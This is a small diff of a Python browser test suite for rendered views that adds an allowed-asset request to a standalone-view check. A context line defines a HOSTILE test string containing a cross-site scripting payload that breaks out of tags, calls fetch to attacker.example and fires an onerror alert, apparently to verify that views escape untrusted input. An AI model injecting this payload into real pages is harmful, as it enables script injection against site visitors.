@@ -10,7 +10,7 @@ import unittest
 
 from axe_playwright_python.sync_playwright import Axe
 
-from browser import PUBLIC, Browser
+from browser import BASE, PUBLIC, Browser
 from workspace import NOW, newsadmin, write
 
 HOSTILE = """</title></style></script><script>fetch('https://attacker.example/')</script><img src=x onerror=alert(1)>"' {{x}}"""
@@ -87,7 +87,7 @@ class Views(Browser):
     def test_views_stand_alone(self):
         for path in views(PUBLIC):
             with self.subTest(path=path):
-                self.check(path, width=375)
+                self.check(path, width=375, asks=[BASE + "assets/"])
 
     def test_buttons_call_the_app_or_else_the_window_around(self):
         view = PUBLIC / "feeds" / "notable" / "en" / "views" / "2026-11-03-nightjar-4-2" / "banner.html"
